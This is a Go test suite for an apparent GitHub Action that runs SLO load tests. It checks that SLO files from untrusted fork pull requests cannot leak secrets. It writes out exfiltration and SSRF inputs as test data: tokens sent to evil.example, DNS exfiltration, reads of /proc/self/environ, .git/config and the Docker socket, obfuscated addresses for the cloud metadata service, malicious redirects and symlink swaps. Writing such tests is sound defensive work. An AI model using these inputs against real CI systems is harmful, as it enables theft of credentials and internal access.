//go:build unix

package main

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	google "github.com/google/pprof/profile"

	"github.com/slogate/slogate/github/githubtest"
)

// attack is what a stranger tries by the SLO file of a pull request, and by the
// files beside it.
type attack struct {
	target string // http://localhost:8000 where it is empty
	file   string // the rest of the SLO file, but for a scenario and a stage where it has none
	more   map[string]string
	links  map[string]string // what they lead to, by their names
	env    map[string]string
	own    bool   // the change is one of the repository itself, which is no more trusted but for private addresses
	mode   string // check, where it is empty: nothing may be sent
	want   string // in what refuses it
}

const (
	stolen   = "hunter2-of-the-workspace" // must be in nothing that a change sees
	outsider = "evil.example"
)

// run tries the attack and returns what anybody can read of the job.
func (a attack) run(t *testing.T) (code int, said string, j *job) {
	t.Helper()
	j = newJob(t)
	t.Chdir(j.dir)
	if !a.own {
		j.event(t, "pull_request", pullEvent(githubtest.RepositoryID+1))
	}
	outside := t.TempDir()
	for name, text := range a.more {
		if name = strings.ReplaceAll(name, "OUTSIDE", outside); !filepath.IsAbs(name) {
			name = filepath.Join(j.dir, name)
		}
		if err := errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.WriteFile(name, []byte(text), 0o600)); err != nil {
			t.Fatal(err)
		}
	}
	for name, to := range a.links {
		_ = os.Remove(filepath.Join(j.dir, name))
		if err := os.Symlink(strings.ReplaceAll(to, "OUTSIDE", outside), filepath.Join(j.dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	if _, linked := a.links["slo.yaml"]; !linked {
		j.write(t, "slo.yaml", strings.ReplaceAll(a.text(), "OUTSIDE", outside))
	}
	env := map[string]string{"INPUT_MODE": "check", "INPUT_ENV": "TOKEN", "TOKEN": stolen, "NOT_LISTED": stolen, "INPUT_OUT": "out"}
	if a.mode != "" {
		env["INPUT_MODE"] = a.mode
	}
	for name, value := range a.env {
		env[name] = strings.ReplaceAll(value, "DIR", j.dir)
	}
	code, log := j.run(t, env)
	said = withoutMasks(log)
	if text, err := os.ReadFile(filepath.Join(j.dir, "summary")); err == nil {
		said += string(text)
	}
	for _, c := range j.github.Comments {
		said += c.Body
	}
	return code, said, j
}

func (a attack) text() string {
	target := a.target
	if target == "" {
		target = "http://localhost:8000"
	}
	text := "version: 1\ntarget: " + target + "\n" + a.file + "\n"
	if !strings.Contains(text, "scenarios:") {
		text += "scenarios: [{request: GET /}]\n"
	}
	if !strings.Contains(text, "stages:") {
		text += "stages: [{name: s, requests: 100, workers: 1}]\n"
	}
	return text
}

const secretToken = "${secret.TOKEN}"

// with is a file whose requests carry the secret.
func with(more string) string {
	return "http: {headers: {x: \"" + secretToken + "\"}" + more + "}"
}

// What a stranger's file tries is refused before anything is sent, for the
// reason that it is refused for.
func TestAForkTries(t *testing.T) {
	allowed := map[string]string{"INPUT_ALLOWED-HOSTS": "localhost, api.example"}
	for name, a := range map[string]attack{
		// to send a value of the workflow to a host of its own
		"another target":                  {target: "http://" + outsider, file: with(""), want: "SLO110"},
		"a name that begins as localhost": {target: "http://localhost." + outsider, file: with(""), want: "SLO110"},
		"a name that ends as one allowed": {target: "http://evilapi.example", file: with(""), env: allowed, want: "SLO071"},
		"one allowed as a user":           {target: "http://api.example@" + outsider, file: with(""), want: "a user or password"},
		"one allowed as a user, escaped":  {target: "http://api.example%40" + outsider, file: with(""), want: "is not a URL"},
		"a backslash":                     {target: `http://` + outsider + `\@localhost`, file: with(""), want: "a user or password"},
		"a host of other letters":         {target: "http://lоcalhost", file: with(""), want: "no valid host"},
		"punycode of it":                  {target: "http://xn--lcalhost-fjg", file: with(""), want: "SLO110"},
		"an IP as one number":             {target: "http://2130706433", file: with(""), want: "SLO110"},
		"an IP in hexadecimal":            {target: "http://0x7f.1", file: with(""), want: "SLO110"},
		"upper case and a dot":            {target: "http://EVIL.example.", file: with(""), want: "SLO110"},
		"a base target":                   {file: with("") + "\nbaseline: {base_target: http://" + outsider + "}", want: "SLO110"},
		"the header Host":                 {file: "http: {headers: {x: \"" + secretToken + "\", HOST: " + outsider + "}}", want: "SLO110"},
		"the header Host of a step":       {file: with("") + "\nscenarios: [{request: GET /, headers: {host: " + outsider + "}}]", want: "SLO110"},
		"the name that TLS is told":       {target: "https://localhost", file: with(", tls: {server_name: " + outsider + ", insecure_skip_verify: true}"), want: "SLO110"},
		"an absolute URL":                 {file: "scenarios: [{request: 'GET http://" + outsider + "/" + secretToken + "'}]", want: "does not begin with /"},
		"a URL without a scheme":          {file: "scenarios: [{request: 'GET @" + outsider + "/'}]", want: "does not begin with /"},
		"a tunnel":                        {file: "scenarios: [{request: 'CONNECT " + outsider + ":443'}]", want: "unknown method"},
		"an address for a host":           {file: with(", resolve: {localhost: 192.0.2.7}"), want: "does not name the host of the address"},
		"a proxy":                         {file: with(", proxy: 'http://" + outsider + ":3128'"), want: "does not name the host of the proxy"},
		"a proxy with a secret":           {file: "http: {proxy: 'http://u:" + secretToken + "@" + outsider + ":3128'}", want: "does not name the host of the proxy"},
		"a token server":                  {file: "http: {auth: {oauth2: {token_url: 'https://" + outsider + "/t', client_id: a, client_secret: '" + secretToken + "'}}}", want: "does not name the host of the token_url"},
		"a Prometheus server":             {file: "metrics: {prometheus: {url: 'http://" + outsider + "', queries: {x: up}, headers: {x: '" + secretToken + "'}}}", want: "does not name the host of the Prometheus server"},
		"a connection":                    {file: "scenarios: [{tcp: '" + outsider + ":22'}]", want: "does not name the host of the step"},
		"a wait for another host":         {file: "wait_for: {tcp: '" + outsider + ":22'}", want: "does not name the host of the step"},
		"a name server":                   {file: "scenarios: [{dns: {server: " + outsider + ", name: a.example}}]", want: "does not name the host of the step"},
		"a name that is asked for":        {file: "scenarios: [{dns: {server: 127.0.0.1, name: '${env.TOKEN}." + outsider + "'}}]", want: "cannot stand in the name"},
		"a secret name that is asked for": {file: "scenarios: [{dns: {server: 127.0.0.1, name: '" + secretToken + "." + outsider + "'}}]", want: "cannot stand in the name"},
		"a name, by a change of its own":  {own: true, file: "scenarios: [{dns: {server: 127.0.0.1, name: '${env.TOKEN}." + outsider + "'}}]", want: "SLO110"},
		"a host made of it":               {own: true, file: "scenarios: [{tcp: '${env.TOKEN}." + outsider + ":80'}]", want: "SLO110"},
		"a server made of it":             {own: true, file: "scenarios: [{dns: {server: '${env.TOKEN}." + outsider + "', name: a.example}}]", want: "SLO110"},
		"a target made of it":             {own: true, target: "http://${env.TOKEN}." + outsider, want: "SLO110"},
		"a query":                         {own: true, file: "metrics: {prometheus: {url: 'http://" + outsider + "', queries: {x: '${env.TOKEN}'}}}", want: "SLO110"},
		"the name of TLS made of it":      {own: true, target: "https://" + outsider, file: "http: {tls: {server_name: '${env.TOKEN}'}}", want: "SLO110"},

		// to read or show what is not for it
		"a variable that is not listed":  {file: "http: {headers: {x: '${env.NOT_LISTED}'}}", want: "the environment variable NOT_LISTED is not set"},
		"a secret that is not listed":    {file: "http: {headers: {x: '${secret.NOT_LISTED}'}}", want: "the environment variable NOT_LISTED is not set"},
		"the token of the action":        {file: "http: {headers: {x: '${secret.INPUT_GITHUB-TOKEN}'}}", want: "is not the name of a secret"},
		"the runner's token":             {file: "http: {headers: {x: '${env.ACTIONS_RUNTIME_TOKEN}'}}", want: "is not set"},
		"a variable in the name":         {file: "name: '${env.TOKEN}'", want: "cannot stand in the name"},
		"a variable in a stage's name":   {file: "stages: [{name: '${env.TOKEN}', requests: 100, workers: 1}]", want: "cannot stand in the name"},
		"a variable as a number":         {file: "stages: [{name: s, requests: '${env.TOKEN}', workers: 1}]", want: "cannot stand in"},
		"a variable that is no target":   {target: "${env.TOKEN}", want: "has no scheme"},
		"a variable as a part of one":    {target: "http://localhost:${env.TOKEN}", want: "SLO"},
		"a variable that is no proxy":    {file: "http: {proxy: '${env.TOKEN}'}", want: "not a proxy"},
		"a variable that is no token":    {file: "http: {auth: {oauth2: {token_url: '${env.TOKEN}', client_id: a, client_secret: b}}}", want: "not a URL"},
		"an absolute path":               {file: "scenarios: [{request: POST /, body_file: OUTSIDE/key}]", more: map[string]string{"OUTSIDE/key": stolen}, want: "is not a relative path"},
		"a path upwards":                 {file: "scenarios: [{request: POST /, body_file: ../key}]", want: "lies outside of the workspace"},
		"a path upwards and back":        {file: "scenarios: [{request: POST /, body_file: a/../../key}]", want: "lies outside of the workspace"},
		"a link":                         {file: "scenarios: [{request: POST /, body_file: key}]", more: map[string]string{"OUTSIDE/key": stolen}, links: map[string]string{"key": "OUTSIDE/key"}, want: "cannot be read"},
		"a folder that is a link":        {file: "scenarios: [{request: POST /, body_file: d/key}]", more: map[string]string{"OUTSIDE/key": stolen}, links: map[string]string{"d": "OUTSIDE"}, want: "cannot be read"},
		"a link to a link":               {file: "scenarios: [{request: POST /, body_file: a}]", more: map[string]string{"OUTSIDE/key": stolen}, links: map[string]string{"a": "b", "b": "OUTSIDE/key"}, want: "cannot be read"},
		"a device":                       {file: "scenarios: [{request: POST /, body_file: zero}]", links: map[string]string{"zero": "/dev/zero"}, want: "cannot be read"},
		"the environment of the process": {file: "scenarios: [{request: POST /, body_file: e}]", links: map[string]string{"e": "/proc/self/environ"}, want: "cannot be read"},
		"the checkout's credential":      {file: "scenarios: [{request: POST /, body_file: .git/config}]", more: map[string]string{".git/config": stolen}, want: "may hold a credential"},
		"a link to it":                   {file: "scenarios: [{request: POST /, body_file: c}]", more: map[string]string{".git/config": stolen}, links: map[string]string{"c": ".git/config"}, want: "may hold a credential"},
		"rows":                           {file: "scenarios: [{request: GET /, data: {file: r.csv}}]", more: map[string]string{"OUTSIDE/r.csv": "a\n" + stolen}, links: map[string]string{"r.csv": "OUTSIDE/r.csv"}, want: "escapes"},
		"an authority":                   {file: "http: {tls: {ca_file: c.pem}}", more: map[string]string{"OUTSIDE/c": stolen}, links: map[string]string{"c.pem": "OUTSIDE/c"}, want: "cannot be read"},
		"a key":                          {file: "http: {tls: {cert_file: a.pem, key_file: .k.pem}}", more: map[string]string{"a.pem": stolen, ".k.pem": stolen}, want: "may hold a credential"},
		"a file of multipart":            {file: "scenarios: [{request: POST /, multipart: {f: {file: k}}}]", links: map[string]string{"k": "/etc/passwd"}, want: "cannot be read"},
		"an OpenAPI document":            {file: "openapi: d.json", more: map[string]string{"OUTSIDE/d": stolen}, links: map[string]string{"d.json": "OUTSIDE/d"}, want: "cannot be read"},
		"the credential as a document":   {file: "openapi: .git/config", more: map[string]string{".git/config": stolen}, want: "may hold a credential"},
		"a socket of the machine":        {target: "unix:/var/run/docker.sock", want: "is not a relative path"},
		"a link to one":                  {target: "unix:s", links: map[string]string{"s": "/var/run/docker.sock"}, want: "the socket cannot be used"},
		"an SLO file that is a link":     {more: map[string]string{"OUTSIDE/key": "a: " + stolen + ": b"}, links: map[string]string{"slo.yaml": "OUTSIDE/key"}, want: "escapes"},
		"one to the credential":          {more: map[string]string{".git/config": "a: " + stolen + ": b"}, links: map[string]string{"slo.yaml": ".git/config"}, want: "may hold a credential"},
		"one to a device":                {links: map[string]string{"slo.yaml": "/dev/zero"}, want: "escapes"},

		// to load more than the workflow permits
		"a rate":       {file: "limits: {rate: 100000/s}\nstages: [{name: s, rate: 900/s, duration: 5s}]", env: map[string]string{"INPUT_MAX-RATE": "50/s"}, want: "the limits permit 50 requests a second"},
		"a ramp":       {file: "stages: [{name: s, rate: 1/s..900/s, duration: 5s}]", env: map[string]string{"INPUT_MAX-RATE": "50/s"}, want: "the limits permit 50 requests a second"},
		"a long run":   {file: "limits: {duration: 1h}\nstages: [{name: s, rate: 1/s, duration: 30m}]", env: map[string]string{"INPUT_MAX-DURATION": "1m"}, want: "the limits permit 1m"},
		"another host": {target: "http://" + outsider, file: "limits: {hosts: ['*.example']}", env: allowed, want: "the limits do not allow the host"},
		"a later host": {file: "scenarios: [{tcp: '" + outsider + ":80'}]", env: allowed, want: "the limits do not allow the host"},
		"aliases of YAML": {file: "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n" +
			"e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f,*f]", want: "SLO"},
	} {
		t.Run(name, func(t *testing.T) {
			code, said, _ := a.run(t)
			if code != exitUsage || !strings.Contains(said, a.want) {
				t.Errorf("exit %d, want %d and %q in\n%s", code, exitUsage, a.want, said)
			}
			if strings.Contains(said, stolen) {
				t.Errorf("it has got what it wanted:\n%s", said)
			}
		})
	}
}

// A pipe would be waited for, and a file beside it must not be read either.
func TestAForkBringsAPipe(t *testing.T) {
	j := newJob(t)
	t.Chdir(j.dir)
	for _, name := range []string{"pipe", "pipe.yaml", "pipe.csv", "pipe.pem"} {
		if err := syscall.Mkfifo(filepath.Join(j.dir, name), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, file := range []string{
		"scenarios: [{request: POST /, body_file: pipe}]", "scenarios: [{request: GET /, data: {file: pipe.csv}}]",
		"openapi: pipe", "http: {tls: {ca_file: pipe.pem}}", "baseline: {files: pipe}\nobjectives: [p95 <= baseline + 10%]",
	} {
		j.write(t, "slo.yaml", attack{file: file}.text())
		if code, log := j.run(t, map[string]string{"INPUT_OUT": "out"}); code != exitUsage || !strings.Contains(log, "regular file") {
			t.Errorf("%s: exit %d\n%s", file, code, log)
		}
	}
	if code, log := j.run(t, map[string]string{"INPUT_CONFIG": "pipe.yaml"}); code != exitUsage || !strings.Contains(log, "not a regular file") {
		t.Errorf("as the SLO file: exit %d\n%s", code, log)
	}
}

// What a run writes stays where the workflow wants it: a change that brings a
// link along does not choose another file.
func TestAForkLeadsTheOutputElsewhere(t *testing.T) {
	for name, a := range map[string]attack{
		"the folder":            {links: map[string]string{"out": "OUTSIDE"}},
		"one above it":          {links: map[string]string{"a": "OUTSIDE"}, env: map[string]string{"INPUT_OUT": "a/out"}},
		"a folder to be made":   {links: map[string]string{"out": "OUTSIDE/new"}},
		"a link to a link":      {links: map[string]string{"out": "b", "b": "OUTSIDE"}},
		"by the absolute path":  {links: map[string]string{"out": "OUTSIDE"}, env: map[string]string{"INPUT_OUT": "DIR/out"}},
		"that of a file's name": {links: map[string]string{"out/slo": "OUTSIDE"}, more: map[string]string{"out/x": "", "b.yaml": attack{file: "name: b"}.text()}, env: map[string]string{"INPUT_CONFIG": "slo.yaml\nb.yaml"}},
	} {
		t.Run(name, func(t *testing.T) {
			service := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
			t.Cleanup(service.Close)
			a.target, a.mode = service.URL, "run"
			a.file = "objectives: [p95 <= 30s]"
			if b, ok := a.more["b.yaml"]; ok {
				a.more["b.yaml"] = strings.Replace(b, "http://localhost:8000", service.URL, 1)
			}
			a.more = and(a.more, "OUTSIDE/kept", "")
			code, said, j := a.run(t)
			if code != exitUsage || !strings.Contains(said, "output folder") || !strings.Contains(said, "escapes") {
				t.Errorf("exit %d\n%s", code, said)
			}
			for link := range a.links {
				to, err := filepath.EvalSymlinks(filepath.Join(j.dir, link))
				if err != nil {
					continue // it leads to nothing, as before
				}
				if entries, err := os.ReadDir(to); err != nil || len(entries) != 1 {
					t.Errorf("%s has %v, %v", to, entries, err)
				}
			}
		})
	}
}

// A service of the change that puts a link in the place of the folder while it is
// loaded gets no further.
func TestAForkLeadsTheOutputElsewhereInTheRun(t *testing.T) {
	elsewhere := t.TempDir()
	var once sync.Once
	service := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {
		once.Do(func() {
			if err := errors.Join(os.RemoveAll("out"), os.Symlink(elsewhere, "out")); err != nil {
				t.Error(err)
			}
		})
	}))
	t.Cleanup(service.Close)
	a := attack{target: service.URL, file: "objectives: [p95 <= 30s]", mode: "run"}
	if _, said, _ := a.run(t); !strings.Contains(said, "escapes") {
		t.Error(said)
	}
	if entries, err := os.ReadDir(elsewhere); err != nil || len(entries) > 0 {
		t.Errorf("the link leads to %v, %v", entries, err)
	}
}

// A CPU profile goes no further than the reports, wherever such a link leads.
func TestAForkLeadsAProfileElsewhere(t *testing.T) {
	elsewhere := t.TempDir()
	var profile bytes.Buffer
	if err := (&google.Profile{
		SampleType: []*google.ValueType{{Type: "samples", Unit: "count"}, {Type: "cpu", Unit: "nanoseconds"}},
		PeriodType: &google.ValueType{Type: "cpu", Unit: "nanoseconds"}, Period: 10_000_000,
	}).Write(&profile); err != nil {
		t.Fatal(err)
	}
	var once sync.Once
	service := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !strings.HasPrefix(r.URL.Path, "/debug") {
			return
		}
		once.Do(func() {
			if err := errors.Join(os.RemoveAll("out"), os.Symlink(elsewhere, "out")); err != nil {
				t.Error(err)
			}
		})
		w.Write(profile.Bytes())
	}))
	t.Cleanup(service.Close)
	j := newJob(t)
	t.Chdir(j.dir)
	j.event(t, "pull_request", pullEvent(githubtest.RepositoryID+1))
	slow := strings.Replace(sloFile("iris", service.URL, "p95 <= 30s"), "requests: 200, workers: 2", "rate: 20/s, duration: 2s", 1)
	j.write(t, "slo.yaml", slow+"metrics: {cpu_profile: {path: /debug/pprof/profile, duration: 1s}}\n")
	if _, log := j.run(t, map[string]string{"INPUT_OUT": "out"}); !strings.Contains(log, "keep the profile: output folder out: path escapes") {
		t.Error(log)
	}
	if entries, err := os.ReadDir(elsewhere); err != nil || len(entries) > 0 {
		t.Errorf("the link leads to %v, %v", entries, err)
	}
}

// and adds an entry to a map that may be nil.
func and(m map[string]string, key, value string) map[string]string {
	if m == nil {
		m = map[string]string{}
	}
	m[key] = value
	return m
}

// A link in the place of a report is replaced, and what it led to stays.
func TestAForkPutsLinksInThePlaceOfReports(t *testing.T) {
	service := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	t.Cleanup(service.Close)
	a := attack{target: service.URL, file: "objectives: [p95 <= 30s]", mode: "run", more: map[string]string{"OUTSIDE/rc": "as it was", "out/x": ""}, links: map[string]string{}}
	names := []string{resultFile, markdownFile, htmlFile, junitFile, metricsFile}
	for _, name := range names {
		a.links[filepath.Join("out", name)] = "OUTSIDE/rc"
	}
	a.links["led"] = "OUTSIDE/rc"
	code, said, j := a.run(t)
	if code != exitPass {
		t.Fatalf("exit %d\n%s", code, said)
	}
	for _, name := range names {
		if info, err := os.Lstat(filepath.Join(j.dir, "out", name)); err != nil || !info.Mode().IsRegular() || info.Size() == 0 {
			t.Errorf("%s is %v, %v", name, info, err)
		}
	}
	if text, err := os.ReadFile(filepath.Join(j.dir, "led")); err != nil || string(text) != "as it was" {
		t.Errorf("what the links led to is %q, %v", text, err)
	}
}

// The commands of a file are for the user who starts them, and the action never
// is one.
func TestAForkStartsNothing(t *testing.T) {
	service := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	t.Cleanup(service.Close)
	const file = "service: {build: 'touch OUTSIDE/built', start: 'touch OUTSIDE/started; sleep 60', env: {A: b}}\nmetrics: {cpu_profile: {command: 'touch OUTSIDE/profiled', duration: 1s}}\nobjectives: [p95 <= 30s]"
	for _, mode := range []string{"run", "check"} {
		a := attack{target: service.URL, file: file, mode: mode, more: map[string]string{"OUTSIDE/kept": ""}, links: map[string]string{"led": "OUTSIDE"}}
		code, said, j := a.run(t)
		if code != exitPass {
			t.Errorf("%s: exit %d\n%s", mode, code, said)
		}
		entries, err := os.ReadDir(filepath.Join(j.dir, "led"))
		if err != nil || len(entries) != 1 {
			t.Errorf("%s: a command has run: %v, %v", mode, entries, err)
		}
	}
}

// Addresses that are never reached are refused by every road that a file has to
// one, in whatever spelling, and nothing is loaded.
func TestAForkReachesForMetadata(t *testing.T) {
	proxy, asked := countingListener(t)
	own := func(a attack) attack { a.own = true; return a }
	through := func(target string) attack {
		return attack{own: true, target: target, file: "http: {proxy: 'http://" + proxy + "'}", env: map[string]string{"INPUT_ALLOWED-HOSTS": "127.0.0.1, *.internal, metadata, 0.0.0.0/0, ::/0, 2852039166, 0xa9.0xfe.0xa9.0xfe, 0251.0376.0251.0376, 169.254.43518"}}
	}
	for name, a := range map[string]attack{
		"the target":                      own(attack{target: "http://169.254.169.254"}),
		"as one of IPv6":                  own(attack{target: "http://[::ffff:a9fe:a9fe]"}),
		"by NAT64":                        own(attack{target: "http://[64:ff9b::169.254.169.254]"}),
		"by an address for a name":        own(attack{file: "http: {resolve: {localhost: 169.254.169.254}}"}),
		"through a proxy":                 through("http://169.254.169.254"),
		"through a proxy, by TLS":         through("https://169.254.169.254"),
		"through a proxy, one of IPv6":    through("http://[fd00:ec2::254]"),
		"through a proxy, as a number":    through("http://2852039166"),
		"through a proxy, hexadecimal":    through("http://0xa9.0xfe.0xa9.0xfe"),
		"through a proxy, octal":          through("http://0251.0376.0251.0376"),
		"through a proxy, two numbers":    through("http://169.254.43518"),
		"through a proxy, by its name":    through("http://metadata.google.internal"),
		"through a proxy, by a short":     through("https://METADATA"),
		"through a proxy, waiting for it": {own: true, target: "http://169.254.169.254", file: "http: {proxy: 'http://" + proxy + "'}\nwait_for: {request: GET /latest}"},
	} {
		t.Run(name, func(t *testing.T) {
			a.mode = "run"
			code, said, _ := a.run(t)
			if code != exitUsage || !strings.Contains(said, "refused to connect to ") || !strings.Contains(said, "which is never reached from a workflow") {
				t.Errorf("exit %d\n%s", code, said)
			}
		})
	}
	if n := asked(); n > 0 {
		t.Errorf("the proxy was asked %d times", n)
	}
}

// countingListener accepts connections, closes them and counts them.
func countingListener(t *testing.T) (address string, count func() int) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	n, done := 0, make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			n++
			c.Close()
		}
	}()
	return l.Addr().String(), func() int { l.Close(); <-done; return n }
}

// A target that leads a stranger's run elsewhere, by a redirect, is not
// followed there.
func TestAForkIsLedElsewhere(t *testing.T) {
	private, asked := countingListener(t)
	for name, location := range map[string]string{
		"to another name":     "http://" + outsider + "/",
		"to metadata":         "http://169.254.169.254/latest",
		"to a private one":    "http://10.0.0.1/",
		"without a scheme":    "//" + outsider + "/",
		"as a user":           "http://127.0.0.1@" + outsider + "/",
		"to a file":           "file:///etc/passwd",
		"to another spelling": "http://" + strings.Replace(private, "127.0.0.1", "127.1", 1) + "/",
	} {
		t.Run(name, func(t *testing.T) {
			service := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Location", location)
				w.WriteHeader(http.StatusFound)
			}))
			t.Cleanup(service.Close)
			a := attack{target: service.URL, file: "http: {redirects: 5}\nconfirm: off\nobjectives: [success_rate >= 99%]", mode: "run"}
			code, said, _ := a.run(t)
			if code != exitFail || !strings.Contains(said, "redirect to the ") {
				t.Errorf("exit %d\n%s", code, said)
			}
		})
	}
	if n := asked(); n > 0 {
		t.Errorf("the other service was asked %d times", n)
	}
}

// An earlier result that the change brings along is read from the workspace
// alone.
func TestAForkNamesABaselineElsewhere(t *testing.T) {
	for name, a := range map[string]attack{
		"upwards":     {file: "baseline: {files: ../x.json}", want: "lies outside of the workspace"},
		"absolute":    {file: "baseline: {files: OUTSIDE/x.json}", want: "is not a relative path"},
		"a link":      {file: "baseline: {files: x.json}", links: map[string]string{"x.json": "OUTSIDE/x.json"}, want: "escapes"},
		"a folder":    {file: "baseline: {files: d}", links: map[string]string{"d": "OUTSIDE"}, want: "escapes"},
		"a reference": {file: "baseline: {files: none.json, ref: x.json}", links: map[string]string{"x.json": "OUTSIDE/x.json"}, want: "escapes"},
	} {
		t.Run(name, func(t *testing.T) {
			a.mode, a.more = "run", map[string]string{"OUTSIDE/x.json": fmt.Sprintf("{%q: 1}", stolen)}
			a.file += "\nobjectives: [p95 <= baseline + 10%]"
			code, said, _ := a.run(t)
			if code != exitUsage || !strings.Contains(said, a.want) || strings.Contains(said, stolen) {
				t.Errorf("exit %d, want %q in\n%s", code, a.want, said)
			}
		})
	}
}
